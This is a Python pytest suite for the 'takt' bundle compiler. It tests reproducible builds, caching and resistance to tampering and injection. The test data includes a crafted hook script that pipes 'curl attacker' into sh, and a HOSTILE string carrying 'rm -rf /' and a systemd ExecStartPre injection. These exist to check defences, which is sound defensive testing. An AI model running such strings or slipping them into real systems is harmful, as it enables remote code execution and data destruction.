"""takt build: golden files per target class, reproducibility, incrementality, real tools, hostile values."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest
from ruamel.yaml import YAML

from compiler.build import build
from compiler.bundle import verify_bundle
from compiler.validate.pipeline import validate
from tests.conftest import copy_example, load_free_latency

GOLDEN = Path(__file__).parent / "golden"
BINARY = (".onnx", ".npz", ".ort")


def _build(root: Path, out: Path, **kw):
    result = validate(root)
    assert [d for d in result.diagnostics if d.severity.label == "error"] == []
    return build(result, out, **kw)


def _snapshot(bundle: Path) -> dict[str, str]:
    """Text files as text; binaries by digest (they are copies of committed example files)."""
    snap = {}
    for f in sorted(p for p in bundle.rglob("*") if p.is_file()):
        rel = f.relative_to(bundle).as_posix()
        snap[rel] = ("sha256:" + hashlib.sha256(f.read_bytes()).hexdigest()) if f.suffix in BINARY else f.read_text()
    return snap


@pytest.mark.parametrize(
    ("example", "target_class"), [("press-line-anomaly", "edge-pc"), ("visual-inspection", "it-server")]
)
def test_golden_bundles(tmp_path: Path, example: str, target_class: str):
    root = copy_example(example, tmp_path / "spec")  # not a Git checkout: provenance carries no commit
    res = _build(root, tmp_path / "out")
    assert res.bundles and not res.failed
    bundle = next(b for b in res.bundles)
    got = _snapshot(tmp_path / "out" / "bundles" / bundle.digest)
    golden = GOLDEN / f"{target_class}.json"
    if os.environ.get("TAKT_UPDATE_GOLDEN"):
        golden.write_text(json.dumps(got, indent=1, sort_keys=True) + "\n")
    assert got == json.loads(golden.read_text()), "rendering changed; if intended: TAKT_UPDATE_GOLDEN=1 pytest"


def _git(root: Path, *args: str) -> str:
    env = {
        **os.environ,
        "GIT_AUTHOR_NAME": "a",
        "GIT_AUTHOR_EMAIL": "a@b",
        "GIT_COMMITTER_NAME": "a",
        "GIT_COMMITTER_EMAIL": "a@b",
        "GIT_AUTHOR_DATE": "2026-01-01T00:00:00Z",
        "GIT_COMMITTER_DATE": "2026-01-01T00:00:00Z",
    }
    return subprocess.run(["git", *args], cwd=root, env=env, check=True, capture_output=True, text=True).stdout


def test_same_commit_in_two_checkouts_gives_identical_bundles(tmp_path: Path):
    digests = []
    for name in ("checkout-a", "somewhere/else/checkout-b"):
        root = load_free_latency(copy_example("press-line-anomaly", tmp_path / name))
        _git(root, "init", "-q", "-b", "main")
        _git(root, "add", "-A")
        _git(root, "commit", "-q", "-m", "specs")
        res = _build(root, tmp_path / name / "out", jobs=2)
        digests.append(sorted(b.digest for b in res.bundles))
        manifest = json.loads((tmp_path / name / "out/bundles" / res.bundles[0].digest / "MANIFEST.json").read_text())
        assert set(manifest["provenance"]) == {
            "compiler",
            "target",
            "targetClass",
            "arch",
            "deployment",
            "model",
            "datasets",
            "specDigests",
        }
        assert str(tmp_path) not in json.dumps(manifest)  # no absolute paths
        assert (
            json.loads((tmp_path / name / "out/index.json").read_text())["sourceCommit"]
            == _git(root, "rev-parse", "HEAD").strip()
        )
    assert digests[0] == digests[1]
    a = tmp_path / "checkout-a/out/bundles" / digests[0][0]
    b = tmp_path / "somewhere/else/checkout-b/out/bundles" / digests[0][0]
    assert _snapshot(a) == _snapshot(b)


def test_only_changed_bundles_are_rendered_again(tmp_path: Path):
    root = load_free_latency(copy_example("press-line-anomaly", tmp_path / "spec"))
    first = {b.target: b for b in _build(root, tmp_path / "out").bundles}
    assert not any(b.reused for b in first.values())
    again = {b.target: b for b in _build(root, tmp_path / "out").bundles}
    assert all(b.reused for b in again.values())
    targets = root / "specs/targets.yaml"
    targets.write_text(targets.read_text().replace("memory: 4Gi", "memory: 6Gi"))  # ipc-arm only
    third = {b.target: b for b in _build(root, tmp_path / "out").bundles}
    assert third["ipc-x86"].reused and third["ipc-x86"].digest == first["ipc-x86"].digest
    assert not third["ipc-arm"].reused and third["ipc-arm"].digest != first["ipc-arm"].digest
    assert not (tmp_path / "out/bundles" / first["ipc-arm"].digest).exists()  # pruned
    index = json.loads((tmp_path / "out/index.json").read_text())
    assert index["devices"]["ipc-press-3"] == [{"digest": third["ipc-arm"].digest, "name": "press-anomaly-muc/ipc-arm"}]


def test_a_tampered_cached_bundle_is_rendered_again(tmp_path: Path):
    root = load_free_latency(copy_example("press-line-anomaly", tmp_path / "spec"))
    b = _build(root, tmp_path / "out").bundles[0]
    (tmp_path / "out/bundles" / b.digest / "runner.json").write_text("{}")
    again = {x.name: x for x in _build(root, tmp_path / "out").bundles}
    assert not again[b.name].reused
    assert verify_bundle(tmp_path / "out/bundles" / b.digest, b.digest)[1] == []
    assert again[b.name].digest == b.digest


@pytest.mark.parametrize("damage", ["content", "extra-file", "link"])
def test_write_bundle_never_trusts_a_directory_by_its_name(tmp_path: Path, damage: str):
    from compiler.bundle import write_bundle

    files = {"runner.json": b'{"a": 1}\n', "model/model.onnx": b"onnx"}
    first = write_bundle(tmp_path / "bundles", "dep/t", "edge-pc", files, {})
    final = tmp_path / "bundles" / first.digest
    if damage == "content":
        (final / "runner.json").write_text("{}")
    elif damage == "extra-file":
        (final / "model" / "evil.so").write_bytes(b"x")
    else:
        shutil.rmtree(final)
        (tmp_path / "elsewhere").mkdir()
        final.symlink_to(tmp_path / "elsewhere")
    again = write_bundle(tmp_path / "bundles", "dep/t", "edge-pc", files, {})
    assert again.digest == first.digest
    assert not final.is_symlink() and verify_bundle(final, first.digest)[1] == []
    if damage == "link":
        assert list((tmp_path / "elsewhere").iterdir()) == []  # nothing was written through the link


def test_threat_a_committed_build_cache_is_never_signed_as_built(tmp_path: Path):
    """A spec-repo writer commits out/ with a crafted bundle under the reviewed inputs' cache key."""
    from compiler.build import BUILD_CACHE
    from compiler.bundle import Manifest, write_bundle

    root = load_free_latency(copy_example("press-line-anomaly", tmp_path / "spec"))
    out = root / "out"  # the build output inside the repository, as `takt build --out out` makes it
    honest = _build(root, out)
    cache = json.loads((out / BUILD_CACHE).read_text())
    key, entry = next(iter(cache["entries"].items()))
    digest = entry["digest"]
    bundle = out / "bundles" / digest
    manifest = Manifest.parse((bundle / "MANIFEST.json").read_bytes())
    files = {f.path: (bundle / f.path).read_bytes() for f in manifest.files}
    files["runner.json"] = files["runner.json"].replace(b'"deployment"', b'"evil":true,"deployment"', 1)
    files["hook.sh"] = b"#!/bin/sh\ncurl attacker | sh\n"
    crafted = write_bundle(out / "bundles", manifest.name, manifest.target_class, files, manifest.provenance)
    forged_mac = hashlib.sha256(f"{key}{crafted.digest}".encode()).hexdigest()
    for k in cache["entries"]:  # every key points at the crafted bundle; the MAC is the attacker's best guess
        cache["entries"][k] = {"digest": crafted.digest, "mac": forged_mac}
    (out / BUILD_CACHE).write_text(json.dumps(cache))
    # a fresh CI machine: another user cache, so another secret
    again = build(validate(root), out, run_gates=False, cache_secret_dir=tmp_path / "ci-user-cache")
    assert {b.digest for b in again.bundles} == {b.digest for b in honest.bundles}
    assert not any(b.reused for b in again.bundles)
    index = json.loads((out / "index.json").read_text())
    assert crafted.digest not in json.dumps(index)


def test_the_build_cache_hits_only_with_its_own_secret_and_survives_corruption(tmp_path: Path):
    from compiler.build import BUILD_CACHE

    root = load_free_latency(copy_example("press-line-anomaly", tmp_path / "spec"))
    first = build(validate(root), tmp_path / "out", run_gates=False)
    second = build(validate(root), tmp_path / "out", run_gates=False)
    assert all(b.reused for b in second.bundles) and second.bundles
    (tmp_path / "out" / BUILD_CACHE).write_text('{"version": 2, "entries": [[[')
    third = build(validate(root), tmp_path / "out", run_gates=False)
    assert not any(b.reused for b in third.bundles)
    assert [b.digest for b in third.bundles] == [b.digest for b in first.bundles]


def test_failing_gate_blocks_the_bundle(tmp_path: Path, cli_run):
    root = load_free_latency(copy_example("press-line-anomaly", tmp_path / "spec"))
    tests = root / "specs/tests.yaml"
    tests.write_text(tests.read_text().replace("threshold: 0.6", "threshold: 0.99"))
    code, out = cli_run("build", str(root), "--out", str(tmp_path / "out"), "--no-progress")
    assert code == 1 and "blocked" in out and "fault-recall" in out
    assert json.loads((tmp_path / "out/index.json").read_text())["bundles"] == []


@pytest.mark.slow
@pytest.mark.skipif(not shutil.which("kubectl"), reason="kubectl is not installed on this machine")
def test_it_server_bundle_builds_with_kustomize(tmp_path: Path):
    root = copy_example("visual-inspection", tmp_path / "spec")
    b = _build(root, tmp_path / "out").bundles[0]
    out = subprocess.run(
        ["kubectl", "kustomize", str(tmp_path / "out/bundles" / b.digest)], capture_output=True, text=True, check=True
    ).stdout
    docs = {d["kind"]: d for d in YAML(typ="safe").load_all(out)}
    assert set(docs) == {"ConfigMap", "Service", "Deployment"}
    assert all(d["metadata"].get("namespace") == "quality" for d in docs.values())
    pod = docs["Deployment"]["spec"]["template"]["spec"]
    env = {e["name"]: e["value"] for e in pod["initContainers"][0]["env"]}
    assert env["MODEL_URL"].endswith("/sha256/" + env["MODEL_SHA256"])
    assert "$MODEL_SHA256" in pod["initContainers"][0]["command"][2]  # digest checked, never spliced in
    json.loads(docs["ConfigMap"]["data"]["runner.json"])
    import kubernetes_validate.utils as kv

    for doc in docs.values():  # strict Kubernetes schema validation, offline
        kv.validate(doc, kv.latest_version(), strict=True)
    broken = json.loads(json.dumps(docs["Deployment"]))
    broken["spec"]["template"]["spec"]["containers"][0]["imagePullPolcy"] = "Always"
    with pytest.raises(kv.ValidationError):
        kv.validate(broken, kv.latest_version(), strict=True)


HOSTILE = 'x"; rm -rf / #\n[Service]\nExecStartPre=/bin/evil %n $HOME ${PATH} {{ 7*7 }} \\ \x00 end'


@pytest.mark.slow
@pytest.mark.skipif(not shutil.which("systemd-analyze"), reason="systemd-analyze is not installed on this machine")
def test_hostile_strings_through_the_unit_template_stay_values(tmp_path: Path):
    """Defence in depth: even values the renderer would refuse cannot add lines, keys or sections."""
    from compiler.render.plugins import target_classes

    unit = (
        target_classes()["edge-pc"]
        .templates()
        .get_template("takt-runner.service.j2")
        .render(
            bundle_name=HOSTILE,
            description=HOSTILE,
            user="takt",
            nice=0,
            workdir="/var/lib/takt/x",
            command=HOSTILE,
            config=HOSTILE,
            memory_max=None,
            cpu_quota=None,
            http_port=8080,
        )
    )
    lines = unit.splitlines()
    assert [ln for ln in lines if ln.strip() == "[Service]"] == ["[Service]"]
    assert not any(ln.startswith("ExecStartPre") for ln in lines) and "\x00" not in unit
    keys = [ln.split("=", 1)[0] for ln in lines if "=" in ln and not ln.startswith("#")]
    assert sorted(set(keys)) == sorted(keys), keys  # every setting exactly once
    assert "49" not in unit  # `{{ 7*7 }}` in a value is text, never evaluated
    unit_file = tmp_path / "takt-runner.service"
    unit_file.write_text(unit)
    r = subprocess.run(["systemd-analyze", "verify", str(unit_file)], capture_output=True, text=True)
    assert r.returncode == 0, r.stderr


def test_hostile_values_in_data_outputs_round_trip(tmp_path: Path):
    root = load_free_latency(copy_example("press-line-anomaly", tmp_path / "spec"))
    targets = root / "specs/targets.yaml"
    targets.write_text(
        targets.read_text().replace(
            "    unit: {user: takt, nice: -5}", f"    unit: {{user: takt, nice: -5}}\n    image: {json.dumps(HOSTILE)}"
        )
    )
    res = _build(root, tmp_path / "out")
    bundle = tmp_path / "out/bundles" / next(b.digest for b in res.bundles if b.target == "ipc-x86")
    compose = YAML(typ="safe").load((bundle / "compose.yaml").read_text())
    assert compose["services"]["runner"]["image"] == HOSTILE  # exactly the value, nothing more
    assert set(compose["services"]) == {"runner"}


@pytest.mark.parametrize(
    ("key", "value"),
    [("installDir", HOSTILE), ("installDir", "relative/dir"), ("installDir", "/a/../etc"), ("runnerCommand", HOSTILE)],
)
def test_values_a_unit_cannot_hold_are_refused(tmp_path: Path, key: str, value: str):
    root = load_free_latency(copy_example("press-line-anomaly", tmp_path / "spec"))
    targets = root / "specs/targets.yaml"
    targets.write_text(
        targets.read_text().replace(
            "    unit: {user: takt, nice: -5}", f"    unit: {{user: takt, nice: -5}}\n    {key}: {json.dumps(value)}"
        )
    )
    res = _build(root, tmp_path / "out")
    assert res.failed and {d.code for d in res.diagnostics} == {"TAKT6002"}
    assert all(d.path == "spec.profile" and f"profile.{key}" in d.message for d in res.diagnostics)


def test_invalid_profile_values_are_located_diagnostics(tmp_path: Path, cli_run):
    root = load_free_latency(copy_example("press-line-anomaly", tmp_path / "spec"))
    targets = root / "specs/targets.yaml"
    targets.write_text(
        targets.read_text().replace("unit: {user: takt, nice: -5}", "unit: {user: 'root\\nx', nice: 99}")
    )
    code, out = cli_run("build", str(root), "--out", str(tmp_path / "out"), "--no-progress")
    assert code == 1
    assert "TAKT6002" in out and "targets.yaml" in out and "profile.unit.user" in out


def test_a_commit_that_changes_nothing_rendered_keeps_every_digest(tmp_path: Path):
    root = load_free_latency(copy_example("press-line-anomaly", tmp_path / "spec"))
    _git(root, "init", "-q", "-b", "main")
    _git(root, "add", "-A")
    _git(root, "commit", "-q", "-m", "specs")
    first = sorted(b.digest for b in _build(root, tmp_path / "o1").bundles)
    (root / "NOTES.md").write_text("unrelated\n")
    _git(root, "add", "-A")
    _git(root, "commit", "-q", "-m", "docs")
    assert sorted(b.digest for b in _build(root, tmp_path / "o2").bundles) == first


def test_third_party_target_classes_load_through_entry_points(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """A package exposing `takt.targets` adds a class; nothing in compiler/ changes."""
    import sys
    import textwrap
    from importlib.metadata import EntryPoint

    import compiler.render.plugins as plugins

    pkg = tmp_path / "acme_plc_target"
    (pkg / "templates").mkdir(parents=True)
    (pkg / "__init__.py").write_text(
        textwrap.dedent("""
        from compiler.render.plugins import ClassPlugin
        def render(inp, templates):
            return {"plc.txt": templates.get_template("plc.j2").render(name=inp.deployment.metadata.name).encode()}
        PLUGIN = ClassPlugin(name="acme-plc", render=render)
    """)
    )
    (pkg / "templates" / "plc.j2").write_text("deployment {{ name }}\n")
    (pkg / "profile.yaml").write_text("slot: 3\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    ep = EntryPoint(name="acme-plc", value="acme_plc_target", group=plugins.ENTRY_POINT_GROUP)
    monkeypatch.setattr(plugins, "entry_points", lambda group: [ep] if group == plugins.ENTRY_POINT_GROUP else [])
    plugins.target_classes.cache_clear()
    try:
        classes = plugins.target_classes()
        assert {"edge-pc", "it-server", "embedded", "acme-plc"} <= set(classes)
        assert classes["acme-plc"].default_profile == {"slot": 3}
    finally:
        plugins.target_classes.cache_clear()
        sys.modules.pop("acme_plc_target", None)


def test_embedded_golden(tmp_path: Path):
    from tests.test_embedded import embedded_repo

    root = embedded_repo(tmp_path / "spec")
    res = _build(root, tmp_path / "out", run_gates=False)  # the rendering is the subject, not the gate
    b = next(b for b in res.bundles if b.target == "vibration-node-m7")
    # every file is pinned, model.ort too: its flatbuffer is rewritten into one canonical layout
    # (targets/embedded/ort_canonical.py), so it no longer depends on the converter's memory addresses
    got = _snapshot(tmp_path / "out" / "bundles" / b.digest)
    golden = GOLDEN / "embedded.json"
    if os.environ.get("TAKT_UPDATE_GOLDEN"):
        golden.write_text(json.dumps(got, indent=1, sort_keys=True) + "\n")
    assert got == json.loads(golden.read_text()), "rendering changed; if intended: TAKT_UPDATE_GOLDEN=1 pytest"


def _tree(out: Path) -> dict[str, bytes]:
    return {p.relative_to(out).as_posix(): p.read_bytes() for p in sorted(out.rglob("*")) if p.is_file()}


def test_warm_caches_build_byte_for_byte_what_a_cold_build_does(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """Document, digest and build caches (warm, after a change) never change a bundle, index or finding."""
    root = load_free_latency(copy_example("press-line-anomaly", tmp_path / "spec"))
    warm_out = tmp_path / "warm"
    for _ in range(2):
        build(validate(root), warm_out, run_gates=False)
    model = root / "specs" / "model.yaml"
    model.write_text(model.read_text().replace('version: "1.3.0"', 'version: "1.3.1"'))
    warm = validate(root)
    warm_res = build(warm, warm_out, run_gates=False)
    assert [b.reused for b in warm_res.bundles].count(False) >= 1

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "fresh-user"))  # another secret: nothing is reused
    shutil.rmtree(root / ".takt-cache", ignore_errors=True)
    cold = validate(root, use_cache=False)
    cold_res = build(cold, tmp_path / "cold", run_gates=False, jobs=1)
    assert not any(b.reused for b in cold_res.bundles)
    assert warm.diagnostics == cold.diagnostics
    strip = {".takt-build.json"}  # sealed with each user's secret: the one file that may differ
    assert {k: v for k, v in _tree(warm_out).items() if k not in strip} == {
        k: v for k, v in _tree(tmp_path / "cold").items() if k not in strip
    }


def test_an_unchanged_bundle_tree_is_reused_without_reading_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """The tree stamp in the build cache stands for the bytes: a no-change build verifies no bundle again."""
    import compiler.build as build_module

    root = load_free_latency(copy_example("press-line-anomaly", tmp_path / "spec"))
    first = build(validate(root), tmp_path / "out", run_gates=False, jobs=1)
    monkeypatch.setattr(build_module, "verify_bundle", lambda *a, **k: pytest.fail("a stamped bundle was read"))
    again = build(validate(root), tmp_path / "out", run_gates=False, jobs=1)
    assert again.bundles and all(b.reused for b in again.bundles)
    assert [b.digest for b in again.bundles] == [b.digest for b in first.bundles]


@pytest.mark.parametrize("damage", ["same-size-same-mtime", "extra-file", "mode"])
def test_threat_a_bundle_changed_behind_its_stamp_is_verified_and_rendered_again(tmp_path: Path, damage: str):
    """Size and mtime can be put back; ctime and inode cannot: the stamp misses, the bytes are checked."""
    root = load_free_latency(copy_example("press-line-anomaly", tmp_path / "spec"))
    b = build(validate(root), tmp_path / "out", run_gates=False, jobs=1).bundles[0]
    bundle = tmp_path / "out/bundles" / b.digest
    runner = bundle / "runner.json"
    if damage == "same-size-same-mtime":
        st = runner.stat()
        text = runner.read_bytes()
        runner.write_bytes(text.replace(b'"', b"'", 2))
        os.utime(runner, ns=(st.st_atime_ns, st.st_mtime_ns))
        assert runner.stat().st_size == st.st_size
    elif damage == "extra-file":
        (bundle / "evil.sh").write_text("#!/bin/sh\n")
    else:
        runner.chmod(0o777)
    again = {x.name: x for x in build(validate(root), tmp_path / "out", run_gates=False, jobs=1).bundles}
    assert not again[b.name].reused and again[b.name].digest == b.digest
    assert verify_bundle(bundle, b.digest, exact_modes=True)[1] == []


@pytest.mark.slow
def test_bundles_rendered_in_worker_processes_are_the_bytes_of_a_serial_build(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, worker_pools: list[int]
):
    """Small builds render in one process (a pool costs more than they do); a large one forks workers.
    Both give the same tree: the pool is forced here on an example and its workers are counted."""
    import compiler.build as build_module

    root = load_free_latency(copy_example("press-line-anomaly", tmp_path / "spec"))
    serial = build(validate(root), tmp_path / "serial", run_gates=False, jobs=1)
    started = worker_pools
    small = build(validate(root), tmp_path / "small", run_gates=False, jobs=2)
    assert started == []  # below MIN_PARALLEL_WORK: no pool
    monkeypatch.setattr(build_module, "MIN_PARALLEL_WORK", 1)
    pooled = build(validate(root), tmp_path / "pooled", run_gates=False, jobs=2)
    assert started == [min(2, len(pooled.bundles))] and len(pooled.bundles) >= 2
    assert [b.digest for b in pooled.bundles] == [b.digest for b in serial.bundles] == [b.digest for b in small.bundles]
    strip = {".takt-build.json"}
    assert {k: v for k, v in _tree(tmp_path / "pooled").items() if k not in strip} == {
        k: v for k, v in _tree(tmp_path / "serial").items() if k not in strip
    }


def test_source_provenance_names_the_commit_and_its_time_or_none_outside_git(tmp_path: Path):
    from compiler.build import source_provenance

    plain = tmp_path / "plain"
    plain.mkdir()
    assert source_provenance(plain) == {"sourceCommit": None}  # a tmp dir: no checkout around it
    root = tmp_path / "repo"
    root.mkdir()
    _git(root, "init", "-q", "-b", "main")
    assert source_provenance(root) == {"sourceCommit": None}  # no commit yet
    (root / "a.yaml").write_text("x: 1\n")
    _git(root, "add", "-A")
    _git(root, "commit", "-q", "-m", "specs")
    (root / "sub").mkdir()
    head = _git(root, "rev-parse", "HEAD").strip()
    assert source_provenance(root / "sub") == {"sourceCommit": head, "sourceDate": "2026-01-01T00:00:00+00:00"}
